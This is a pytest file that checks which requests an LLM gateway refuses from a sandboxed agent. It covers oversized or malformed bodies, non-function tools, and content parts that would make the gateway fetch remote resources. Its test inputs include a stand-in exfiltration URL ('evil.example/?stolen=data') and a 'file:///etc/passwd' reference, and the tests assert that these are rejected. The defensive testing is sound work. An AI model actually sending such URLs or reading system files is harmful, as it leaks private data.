"""What the gateway refuses to take from a sandbox; only the language model is a double."""

import pytest
from gateway_support import ask, client, opened, register, seen

from agenthands.llm.litellm_setup import load_litellm

pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def gateway():
    load_litellm()
    register()
    seen.clear()
    with opened() as gateway:
        yield gateway


@pytest.mark.parametrize("announced", [True, False])
def test_an_oversized_body_is_refused(gateway, announced):
    body = b'{"messages": [{"role": "user", "content": "' + b"x" * 9 * 1024**2 + b'"}]}'
    with client(gateway) as http:
        answer = http.post("/chat/completions", content=body if announced else iter([body[:99], body[99:]]))
    assert (answer.status_code, answer.json()["error"]["code"]) == (413, "request_too_large")
    assert seen == []
    assert ask(gateway).status_code == 200


@pytest.mark.parametrize(
    "body",
    [
        b"not json",
        b"[" * 100_000,
        b"[]",
        b"{}",
        b'{"messages": "hi"}',
        b'{"messages": []}',
        b'{"messages": ["hi"]}',
        b'{"messages": [{"role": "user", "content": {"a": 1}}]}',
        b'{"messages": [{"role": "user", "content": "hi"}], "tools": 3}',
    ],
    ids=lambda body: body[:50].decode(),
)
def test_what_is_no_request_is_refused(gateway, body):
    with client(gateway) as http:
        answer = http.post("/chat/completions", content=body)
    assert (answer.status_code, answer.json()["error"]["type"]) == (400, "invalid_request_error")
    assert seen == []


@pytest.mark.parametrize(
    "part",
    [
        {"type": "image_url", "image_url": {"url": "https://evil.example/?stolen=data"}},
        {"type": "image_url", "image_url": "file:///etc/passwd"},
        {"type": "file", "file": {"file_id": "https://evil.example/x.pdf"}},
        {"type": "video_url", "video_url": {"url": "https://evil.example/"}},
        "text",
    ],
)
def test_nothing_is_fetched_for_the_sandbox(gateway, part):
    assert ask(gateway, messages=[{"role": "user", "content": [part]}]).status_code == 400
    assert seen == []


def test_inline_parts_pass(gateway):
    parts = [{"type": "text", "text": "hi"}, {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA=="}}]
    assert ask(gateway, messages=[{"role": "user", "content": parts}]).status_code == 200


@pytest.mark.parametrize("tool", [{"type": "mcp", "server_url": "litellm_proxy"}, {"googleSearch": {}}, "weather"])
def test_only_functions_are_tools(gateway, tool):
    assert ask(gateway, tools=[tool]).status_code == 400
    assert seen == []
